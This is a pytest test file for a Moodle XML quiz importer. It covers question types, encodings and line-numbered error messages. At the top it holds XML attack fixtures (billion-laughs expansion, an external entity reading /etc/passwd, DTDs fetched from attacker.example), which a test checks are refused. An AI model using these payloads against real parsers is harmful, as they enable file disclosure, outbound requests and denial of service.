"""Moodle XML import: hostile files, broken files and every supported question type."""

import base64
import unicodedata
from decimal import Decimal

import pytest

from training.quizzes.moodle_xml import parse_moodle_xml

D = Decimal
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<quiz><question type="truefalse"><name><text>&lol3;</text></name></question></quiz>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<quiz><question type="essay"><name><text>&secret;</text></name></question></quiz>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>\n<!DOCTYPE quiz SYSTEM "http://attacker.example/quiz.dtd">\n<quiz/>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><quiz/>"""


def _quiz(body, declaration=b'<?xml version="1.0" encoding="UTF-8"?>\n'):
    return declaration + b"<quiz>\n" + body.encode("utf-8") + b"\n</quiz>\n"


def _question(qtype, inner, name="Câu"):
    return (f'<question type="{qtype}">\n<name><text>{name}</text></name>\n'
            f'<questiontext format="html"><text>Nội dung</text></questiontext>\n{inner}\n</question>')


def _answer(fraction, text, feedback="", extra=""):
    return (f'<answer fraction="{fraction}"><text>{text}</text><feedback><text>{feedback}</text></feedback>'
            f"{extra}</answer>")


def _messages(result):
    return [(issue.row, issue.message % issue.params) for issue in result.issues + result.notices]


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"])
def test_dtds_and_entities_are_refused(data):
    result = parse_moodle_xml(data)
    assert result.questions == () and not result.ok
    (issue,) = result.issues
    assert issue.row == 2 and "document type (DTD) or entities" in issue.message


@pytest.mark.parametrize(("data", "row", "detail"), [
    (b'<?xml version="1.0"?>\n<quiz>\n<question type="essay">\n</quiz>', 4, "mismatched tag"),
    (b"", 1, "no element found"),
    (b"just text", 1, "syntax error"),
])
def test_broken_xml_names_its_line(data, row, detail):
    (issue,) = parse_moodle_xml(data).issues
    assert (issue.row, issue.params["detail"]) == (row, detail)


def test_bytes_that_are_not_utf8_are_refused_with_their_line():
    data = _quiz(_question("essay", "")).replace("Nội dung".encode(), "Ni dung \xe9".encode("latin-1"))
    (issue,) = parse_moodle_xml(data).issues
    assert issue.row == 5 and "UTF-8" in issue.message


def test_another_declared_encoding_is_decoded():
    body = '<question type="essay"><name><text>Café</text></name><questiontext><text>x</text></questiontext></question>'
    data = b'<?xml version="1.0" encoding="ISO-8859-1"?>\n<quiz>' + body.encode("latin-1") + b"</quiz>"
    assert parse_moodle_xml(data).questions[0].name == "Café"


def test_the_root_must_be_quiz():
    result = parse_moodle_xml(b'<?xml version="1.0"?>\n\n<questions/>')
    assert _messages(result) == [(3, "The file is not Moodle XML: its first element must be <quiz>.")]


@pytest.mark.parametrize(("inner", "row", "message"), [
    (_answer("abc", "a") + _answer(100, "b"), 9, "The grade abc is not a number."),
    ("<defaultgrade>one</defaultgrade>" + _answer(100, "a") + _answer(0, "b"), 4,
     "The default mark one is not a number."),
    ('<answer fraction="100"><text>a</text>\n<file name="x.png" encoding="base64">@@@</file></answer>'
     + _answer(0, "b"), 10, "The embedded file x.png is not valid base64."),
])
def test_errors_inside_a_question_name_their_line(inner, row, message):
    # <question> is on line 4, its first <answer> on line 9.
    result = parse_moodle_xml(_quiz("\n" + _question("multichoice", "\n\n" + inner)))
    assert _messages(result) == [(row, message)]


def test_descriptions_are_skipped_and_random_questions_refused():
    body = _question("description", "", name="Giới thiệu") + "\n" + _question("random", "", name="Ngẫu nhiên")
    body += "\n" + _question("truefalse", _answer(100, "true") + _answer(0, "false"))
    result = parse_moodle_xml(_quiz(body))
    assert _messages(result) == [
        (8, "Ngẫu nhiên: question type random is not supported; it was not imported."),
        (3, "Giới thiệu is a description, not a question; descriptions are not imported.")]
    assert [q.qtype for q in result.questions] == ["truefalse"]


def test_truefalse_answers_in_another_language_are_read_in_order():
    result = parse_moodle_xml(_quiz(_question("truefalse", _answer(0, "Đúng", "sai rồi") + _answer(100, "Sai"))))
    (question,) = result.questions
    assert [(c.text, c.fraction, c.feedback) for c in question.choices] == [("true", 0, "sai rồi"), ("false", 1, "")]
    assert "the first one was taken as true" in _messages(result)[0][1]


def test_multiple_choice_defaults_follow_moodle():
    inner = _answer(50, "a") + _answer(50, "b") + _answer(-100, "c") + "<single>false</single>"
    (question,) = parse_moodle_xml(_quiz(_question("multichoice", inner))).questions
    assert question.qtype == "multiple" and not question.shuffle and question.settings.numbering == "abc"
    assert question.choices[0].text_format is None  # the answer has no format: it is the question's


def test_short_answer_options():
    inner = "<usecase>1</usecase><ignorediacritics>1</ignorediacritics>" + _answer(100, "Hà Nội", "Đúng")
    (question,) = parse_moodle_xml(_quiz(_question("shortanswer", inner))).questions
    assert question.settings.case_sensitive and question.settings.ignore_diacritics
    assert question.choices[0].feedback == "Đúng"


def test_numerical_answers_tolerances_and_units():
    inner = (_answer(100, "3.5", extra="<tolerance>0.1</tolerance>") + _answer(0, "", "Sai", "<tolerance>0</tolerance>")
             + "<units><unit><multiplier>1</multiplier><unit_name>m</unit_name></unit></units>")
    result = parse_moodle_xml(_quiz(_question("numerical", inner)))
    (question,) = result.questions
    assert [(c.text, c.fraction, c.tolerance, c.feedback) for c in question.choices] == [
        ("3.5", 1, D("0.1"), ""), ("*", 0, None, "Sai")]
    assert "units are not supported" in _messages(result)[0][1]


def test_matching_pairs_and_distractors():
    inner = "".join(f'<subquestion format="html"><text>{q}</text><answer><text>{a}</text></answer></subquestion>'
                    for q, a in [("Điều 38", "Cung cấp"), ("Điều 40", "Phỏng vấn"), ("", "Cải chính")])
    (question,) = parse_moodle_xml(_quiz(_question("matching", inner))).questions
    assert [(p.prompt, p.answer) for p in question.pairs] == [
        ("Điều 38", "Cung cấp"), ("Điều 40", "Phỏng vấn"), ("", "Cải chính")]
    assert question.shuffle


@pytest.mark.parametrize(("grading", "expected"), [
    ("ABSOLUTE_POSITION", "absolute_position"), ("all_or_nothing", "all_or_nothing"), ("1", "relative_next_exclude_last"),
    ("5", "longest_ordered_subset"), ("", "relative_next_exclude_last"),
])
def test_ordering_items_follow_their_place(grading, expected):
    inner = (f"<gradingtype>{grading}</gradingtype>" if grading else "") + "".join(
        f'<answer fraction="{place}"><text>{text}</text></answer>' for place, text in [(3, "Ba"), (1, "Một"), (2, "Hai")])
    (question,) = parse_moodle_xml(_quiz(_question("ordering", inner))).questions
    assert question.items == ("Một", "Hai", "Ba") and question.settings.grading == expected


def test_an_unknown_ordering_grading_falls_back_with_a_notice():
    inner = "<gradingtype>RELATIVE_TO_CORRECT</gradingtype><selecttype>RANDOM</selecttype>" + "".join(
        f'<answer fraction="{place}"><text>{place}</text></answer>' for place in (1, 2))
    result = parse_moodle_xml(_quiz(_question("ordering", inner)))
    assert result.questions[0].settings.grading == "absolute_position" and len(result.notices) == 2


def test_essay_settings_and_attachments():
    inner = ("<responseformat>editorfilepicker</responseformat><responsefieldlines>5</responsefieldlines>"
             "<minwordlimit>50</minwordlimit><maxwordlimit></maxwordlimit><attachments>1</attachments>"
             '<graderinfo format="markdown"><text>**3 ý**</text></graderinfo><rubric><text>Nêu đủ 3 ý</text></rubric>')
    result = parse_moodle_xml(_quiz(_question("essay", inner)))
    settings = result.questions[0].settings
    assert (settings.response_format, settings.response_field_lines, settings.min_words, settings.max_words) == (
        "editor", 5, 50, None)
    assert (settings.grader_info, settings.grader_info_format, settings.rubric) == ("**3 ý**", "markdown", "Nêu đủ 3 ý")
    assert "attachments are not supported" in _messages(result)[0][1]


def test_tags_names_and_normalisation():
    text = unicodedata.normalize("NFD", "Người phát ngôn")
    body = (f'<question type="essay"><questiontext format="html"><text><![CDATA[<p>{text}</p>]]></text>'
            "</questiontext><tags><tag><text>luật</text></tag><tag><text>nđ09</text></tag></tags>"
            "<coursetags><tag><text>luật</text></tag></coursetags></question>")
    (question,) = parse_moodle_xml(_quiz(body)).questions
    assert question.text == "<p>Người phát ngôn</p>" and question.name == "Người phát ngôn"
    assert question.tags == ("luật", "nđ09")


def test_two_different_files_with_one_name_keep_the_first():
    one, two = (base64.b64encode(data).decode() for data in (b"one", b"two"))
    inner = (f'<generalfeedback><text>g</text><file name="a.png" encoding="base64">{one}</file></generalfeedback>'
             + _answer(100, "a") + f'<answer fraction="0"><text>b</text><file name="a.png">{two}</file></answer>')
    result = parse_moodle_xml(_quiz(_question("multichoice", inner)))
    assert [f.data for f in result.questions[0].files] == [b"one"]
    assert "two different embedded files are named a.png" in _messages(result)[0][1]
